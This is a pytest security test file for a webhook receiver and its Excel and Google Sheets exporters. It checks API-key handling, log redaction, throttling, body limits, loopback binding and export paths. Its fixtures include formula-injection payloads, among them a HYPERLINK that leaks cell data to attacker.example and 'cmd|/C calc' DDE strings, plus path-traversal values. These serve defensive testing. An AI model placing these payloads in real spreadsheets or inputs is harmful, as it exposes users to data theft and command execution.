"""Security of the receiver and the exports: keys, logs, body limit, throttling, files, formulas."""

from __future__ import annotations

import hmac
import json
import logging
import select
import shutil
import socket
import sqlite3
import time
from pathlib import Path

import httpx
import openpyxl
import pytest
from conftest import FIXED_NOW_MS, TEST_KEY, local_ms, make_delivery
from click.testing import CliRunner
from fake_sheets import FakeSheets, Formula, fake_session
from serve_process import ServeProcess, free_port, write_config

from exporters.excel import write_workbook
from exporters.sheets import RetryPolicy, SheetsClient, export_month
from ingest.app import WEBHOOK_PATH
from jobs.cli import cli
from jobs.export import Month, build_month_tables
from jobs.rollup import run_rollup
from jobs.settings import load_settings

PROJECT = Path(__file__).resolve().parent.parent

PHONE = "0903555777"
EMAIL = "bao.tran@example.vn"
NAME = "Trần Gia Bảo"

FORMULA_TEXTS = {
    "name": '=HYPERLINK("http://attacker.example/?leak="&A1,"Bấm vào đây")',
    "office_location": "+84 cmd|' /C calc'!A0",
    "company_id": "@SUM(1+1)*cmd|' /C calc'!A0",
    "machine_id": "-2+3+cmd|' /C calc'!A0",
}


# -- raw HTTP over a socket, for what httpx will not send --------------------------------


def open_socket(base_url: str) -> socket.socket:
    host, port = base_url.removeprefix("http://").split(":")
    sock = socket.create_connection((host, int(port)), timeout=5)
    return sock


def request_head(headers: dict[str, str]) -> bytes:
    lines = [f"POST {WEBHOOK_PATH} HTTP/1.1", "Host: 127.0.0.1"]
    lines += [f"{name}: {value}" for name, value in headers.items()]
    return ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1")


def read_status(sock: socket.socket, timeout_s: float) -> int:
    """Return the status code of the response, waiting at most `timeout_s`."""
    sock.settimeout(timeout_s)
    received = b""
    while b"\r\n" not in received:
        chunk = sock.recv(4096)
        if not chunk:
            break
        received += chunk
    return int(received.split(b" ", 2)[1])


def table_count(db_path: Path, table: str) -> int:
    conn = sqlite3.connect(db_path)
    try:
        return conn.execute(f"SELECT count(*) FROM {table}").fetchone()[0]
    finally:
        conn.close()


# -- API keys ------------------------------------------------------------------------------


@pytest.mark.parametrize("sent_key", ["key-one-1111", "key-two-2222", "key-one-1112", ""])
def test_key_compared_with_compare_digest(start_server, monkeypatch, sent_key):
    server = start_server(api_keys=("key-one-1111", "key-two-2222"))
    compared: list[tuple[bytes, bytes]] = []
    real_compare = hmac.compare_digest

    def spy(first, second):
        compared.append((first, second))
        return real_compare(first, second)

    monkeypatch.setattr(hmac, "compare_digest", spy)

    server.post_delivery(make_delivery(), api_key=sent_key)

    # Every configured key is compared, also after a match, so the time taken does not reveal which key matched.
    assert sorted(second for _, second in compared) == [b"key-one-1111", b"key-two-2222"]
    assert {first for first, _ in compared} == {sent_key.encode()}


@pytest.mark.parametrize("sent_key", [None, "", "wrong-key", TEST_KEY + "x", TEST_KEY.upper()])
def test_wrong_key_401_before_parsing(live_server, sent_key):
    answer = live_server.post_delivery(b"{this is not json", api_key=sent_key)

    assert answer.status_code == 401
    assert answer.json()["error"].startswith("Thiếu khóa API")
    assert table_count(live_server.store_path, "quarantine") == 0
    assert table_count(live_server.store_path, "deliveries") == 0


def test_wrong_key_401_without_reading_body(live_server):
    sock = open_socket(live_server.base_url)
    try:
        head = {"X-API-KEY": "wrong-key", "X-WEBHOOK-TYPE": "CHECKIN", "Content-Type": "application/json", "Content-Length": "50000000"}
        sock.sendall(request_head(head) + b'{"user_id"')
        started = time.monotonic()
        status = read_status(sock, timeout_s=5)
    finally:
        sock.close()

    assert status == 401
    assert time.monotonic() - started < 1.0


def test_secrets_never_logged(start_server, caplog, capfd, tmp_path):
    caplog.set_level(logging.DEBUG)
    config = tmp_path / "config.toml"
    shutil.copy(PROJECT / "config.toml", config)
    settings = load_settings(config, environ={})
    server = start_server(database=settings.database)
    personal = dict(name=NAME, phone_number=PHONE, email=EMAIL)

    accepted = make_delivery(checkin_timestamp=local_ms(2026, 11, 2, 8, 0), **personal)
    assert server.post_delivery(accepted).status_code == 200
    assert server.post_delivery(accepted).status_code == 200
    bad_timestamp = make_delivery(checkin_timestamp="hôm nay", **personal)
    assert server.post_delivery(bad_timestamp).status_code == 422
    phone_as_user = make_delivery(user_id={"phone": PHONE, "email": EMAIL}, **personal)
    assert server.post_delivery(phone_as_user).status_code == 422
    not_json = f'{{"phone_number": "{PHONE}", "email": "{EMAIL}", '.encode()
    assert server.post_delivery(not_json).status_code == 400
    for wrong in (TEST_KEY + "-old", TEST_KEY[:-1], PHONE):
        assert server.post_delivery(accepted, api_key=wrong).status_code == 401
    run_rollup(server.store, settings, FIXED_NOW_MS)
    tables = build_month_tables(server.store, settings, Month.parse("2026-11", settings.policy.timezone), FIXED_NOW_MS)
    write_workbook(tables, tmp_path / "out.xlsx", settings.export.language)

    logged = caplog.text + "".join(json.dumps([str(arg) for arg in (record.args or ())]) for record in caplog.records)
    printed = capfd.readouterr()
    everything = logged + printed.out + printed.err
    assert len(caplog.records) >= 8
    for secret in (TEST_KEY, TEST_KEY[:-1], PHONE, EMAIL, NAME):
        assert secret not in everything, f"{secret!r} found in the log output"


def test_key_never_stored(live_server):
    assert live_server.post_delivery(make_delivery()).status_code == 200
    assert live_server.post_delivery(b"[]").status_code == 400

    conn = sqlite3.connect(live_server.store_path)
    try:
        stored = conn.execute("SELECT headers FROM deliveries UNION ALL SELECT headers FROM quarantine").fetchall()
    finally:
        conn.close()
    assert len(stored) == 2
    for (headers,) in stored:
        assert TEST_KEY not in headers
        assert "x-webhook-type" in json.loads(headers)


# -- failed keys are slowed down ------------------------------------------------------


def timed_post(client: httpx.Client, key: str) -> tuple[int, float]:
    started = time.monotonic()
    answer = client.post(
        WEBHOOK_PATH,
        content=json.dumps(make_delivery()).encode(),
        headers={"X-API-KEY": key, "X-WEBHOOK-TYPE": "CHECKIN", "Content-Type": "application/json"},
    )
    return answer.status_code, time.monotonic() - started


def client_from(base_url: str, address: str) -> httpx.Client:
    return httpx.Client(base_url=base_url, transport=httpx.HTTPTransport(local_address=address), timeout=10, trust_env=False)


def test_repeated_wrong_keys_slowed(live_server):
    attacker = client_from(live_server.base_url, "127.0.0.1")
    neighbour = client_from(live_server.base_url, "127.0.0.2")
    try:
        answers = [timed_post(attacker, f"guess-{number}") for number in range(9)]
        neighbour_status, neighbour_s = timed_post(neighbour, "another-guess")
        right_status, right_s = timed_post(attacker, TEST_KEY)
        after_status, after_s = timed_post(attacker, "guess-after-success")
    finally:
        attacker.close()
        neighbour.close()

    # The throttle lets 5 failures through, then delays 0.1 s, doubling up to 2 s. A
    # response under 1 s after the ninth failure shows that no delay applied.
    assert [status for status, _ in answers] == [401] * 9
    assert sum(seconds for _, seconds in answers[:5]) < 1.0
    assert answers[7][1] >= 0.35
    assert answers[8][1] >= answers[6][1]
    assert (neighbour_status, neighbour_s < 1.0) == (401, True)
    assert (right_status, right_s < 1.0) == (200, True)
    assert (after_status, after_s < 1.0) == (401, True)


# -- body limit ----------------------------------------------------------------------------


def test_huge_content_length_413_promptly(live_server):
    sock = open_socket(live_server.base_url)
    try:
        head = {"X-API-KEY": TEST_KEY, "X-WEBHOOK-TYPE": "CHECKIN", "Content-Type": "application/json", "Content-Length": str(10**9)}
        sock.sendall(request_head(head) + b'{"user_id": "u-1"')
        started = time.monotonic()
        status = read_status(sock, timeout_s=5)
    finally:
        sock.close()

    assert status == 413
    assert time.monotonic() - started < 1.0
    assert table_count(live_server.store_path, "deliveries") == 0
    assert table_count(live_server.store_path, "quarantine") == 0


def send_chunked(server, chunks: int, chunk_size: int) -> tuple[int | None, int]:
    """Send a chunked body chunk by chunk; return (status, bytes sent before the response arrived)."""
    sock = open_socket(server.base_url)
    sent = 0
    try:
        head = {"X-API-KEY": TEST_KEY, "X-WEBHOOK-TYPE": "CHECKIN", "Content-Type": "application/json", "Transfer-Encoding": "chunked"}
        sock.sendall(request_head(head))
        for _ in range(chunks):
            readable, _, _ = select.select([sock], [], [], 0.02)
            if readable:
                return read_status(sock, timeout_s=5), sent
            payload = b" " * chunk_size
            try:
                sock.sendall(f"{chunk_size:x}\r\n".encode() + payload + b"\r\n")
            except (BrokenPipeError, ConnectionResetError):
                break
            sent += chunk_size
        readable, _, _ = select.select([sock], [], [], 0.5)
        if readable:
            return read_status(sock, timeout_s=5), sent
        sock.sendall(b"0\r\n\r\n")
        return read_status(sock, timeout_s=5), sent
    finally:
        sock.close()


def test_chunked_body_cut_at_limit(start_server):
    server = start_server(body_limit_bytes=4096)

    status, sent = send_chunked(server, chunks=200, chunk_size=1024)

    assert status == 413
    assert sent < 4 * 4096
    assert table_count(server.store_path, "deliveries") == 0
    assert table_count(server.store_path, "quarantine") == 0


def test_chunked_body_under_limit_read(start_server):
    server = start_server(body_limit_bytes=4096)

    # Three chunks of spaces are a whole body that is not JSON: read, then quarantined.
    status, sent = send_chunked(server, chunks=3, chunk_size=1024)

    assert (status, sent) == (400, 3072)
    assert table_count(server.store_path, "quarantine") == 1


def test_body_at_limit_accepted_over_rejected(start_server):
    server = start_server(body_limit_bytes=2048)
    body = json.dumps(make_delivery(padding="")).encode()
    padding = 2048 - len(body)
    at_limit = json.dumps(make_delivery(padding="p" * padding)).encode()
    assert len(at_limit) == 2048

    assert server.post_delivery(at_limit).status_code == 200
    over = json.dumps(make_delivery(checkin_timestamp=local_ms(2026, 11, 2, 9, 0), padding="p" * (padding + 1))).encode()
    assert server.post_delivery(over).status_code == 413
    assert table_count(server.store_path, "deliveries") == 1


# -- serve binds loopback ------------------------------------------------------------------


def test_shipped_config_binds_loopback(tmp_path):
    config = tmp_path / "config.toml"
    shutil.copy(PROJECT / "config.toml", config)

    assert load_settings(config, environ={}).server.host == "127.0.0.1"


def test_config_without_host_binds_loopback(tmp_path):
    config = tmp_path / "config.toml"
    text = (PROJECT / "config.toml").read_text(encoding="utf-8")
    config.write_text(text.replace('host = "127.0.0.1"\n', ""), encoding="utf-8")

    settings = load_settings(config, environ={})

    assert 'host = "127.0.0.1"' not in config.read_text(encoding="utf-8")
    assert settings.server.host == "127.0.0.1"


# -- formula injection in both exporters -----------------------------------------------------


@pytest.fixture
def month_with_formulas(start_server, tmp_path):
    """A November 2026 store whose texts all start with a formula character, rolled up."""
    config = tmp_path / "config.toml"
    shutil.copy(PROJECT / "config.toml", config)
    settings = load_settings(config, environ={})
    server = start_server(database=settings.database)
    for hour, minute in ((7, 58), (17, 3)):
        body = make_delivery(checkin_timestamp=local_ms(2026, 11, 2, hour, minute), **FORMULA_TEXTS)
        assert server.post_delivery(body).status_code == 200
    event = make_delivery(checkin_timestamp=local_ms(2026, 11, 4, 9, 0), **FORMULA_TEXTS)
    assert server.post_delivery(event, webhook_type="JOIN_EVENT").status_code == 200
    run_rollup(server.store, settings, FIXED_NOW_MS)
    tables = build_month_tables(server.store, settings, Month.parse("2026-11", settings.policy.timezone), FIXED_NOW_MS)
    return settings, tables


def test_excel_keeps_formula_text_as_text(month_with_formulas, tmp_path):
    settings, tables = month_with_formulas

    path = write_workbook(tables, tmp_path / "timesheet.xlsx", settings.export.language)

    workbook = openpyxl.load_workbook(path)
    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    for field in ("name", "office_location", "machine_id"):
        assert FORMULA_TEXTS[field] in texts


def test_sheets_keeps_formula_text_as_text(month_with_formulas):
    settings, tables = month_with_formulas
    fake = FakeSheets()
    spreadsheet_id = "formula-test-spreadsheet-0001"
    spreadsheet = fake.add_spreadsheet(spreadsheet_id)
    client = SheetsClient(fake_session(fake), RetryPolicy(max_attempts=1))

    export_month(client, spreadsheet_id, "2026-11", tables, settings.export.language)

    values = [value for sheet in spreadsheet.sheets for value in sheet.values.values()]
    assert not [value for value in values if isinstance(value, Formula)]
    assert FORMULA_TEXTS["name"] in values
    assert FORMULA_TEXTS["office_location"] in values
    writes = fake.calls("values:batchUpdate")
    assert writes
    assert {call.json()["valueInputOption"] for call in writes} == {"RAW"}


def listening_addresses(port: int) -> set[str]:
    """Return the IPv4 and IPv6 addresses with a socket listening on `port`, from /proc/net."""
    addresses = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        lines = Path(table).read_text().splitlines()[1:] if Path(table).exists() else []
        for line in lines:
            local, state = line.split()[1], line.split()[3]
            address, port_hex = local.split(":")
            if state == "0A" and int(port_hex, 16) == port:
                addresses.add(address)
    return addresses


def test_serve_listens_on_loopback_only(tmp_path):
    port = free_port()
    server = ServeProcess(write_config(tmp_path, port), port, tmp_path / "serve.log")

    server.start()
    try:
        addresses = listening_addresses(port)
    finally:
        server.stop()

    # /proc/net/tcp writes 127.0.0.1 as the little-endian hex 0100007F.
    assert addresses == {"0100007F"}


# -- export --out stays in the export folder -------------------------------------------------


@pytest.fixture
def export_config(live_server, tmp_path):
    """A config whose database holds one check-in in November 2026."""
    assert live_server.post_delivery(make_delivery()).status_code == 200
    config = tmp_path / "config.toml"
    text = (PROJECT / "config.toml").read_text(encoding="utf-8")
    config.write_text(text.replace('database = "data/acheckin-sync.sqlite3"', f"database = {json.dumps(str(live_server.store_path))}"), encoding="utf-8")
    return config


def export_to(config: Path, out: str):
    arguments = ["--config", str(config), "--now", "2026-11-30T12:00:00+07:00", "export", "excel", "--month", "2026-11", "--out", out]
    return CliRunner().invoke(cli, arguments, env={"ACHECKIN_SYNC_API_KEYS": ""})


@pytest.mark.parametrize("out", ["../escape.xlsx", "reports/../../escape.xlsx", "../../escape.xlsx"])
def test_export_out_cannot_climb_out(export_config, tmp_path, out):
    result = export_to(export_config, out)

    assert result.exit_code != 0
    assert "--out" in result.output
    assert not list(tmp_path.parent.rglob("escape.xlsx"))


def test_export_out_symlink_leaving_folder_refused(export_config, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (tmp_path / "exports").mkdir()
    (tmp_path / "exports" / "shared").symlink_to(outside, target_is_directory=True)

    result = export_to(export_config, "shared/month.xlsx")

    assert result.exit_code != 0
    assert list(outside.iterdir()) == []


def test_export_out_relative_written_under_folder(export_config, tmp_path):
    result = export_to(export_config, "reports/thang-11.xlsx")

    assert result.exit_code == 0, result.output
    assert (tmp_path / "exports" / "reports" / "thang-11.xlsx").is_file()
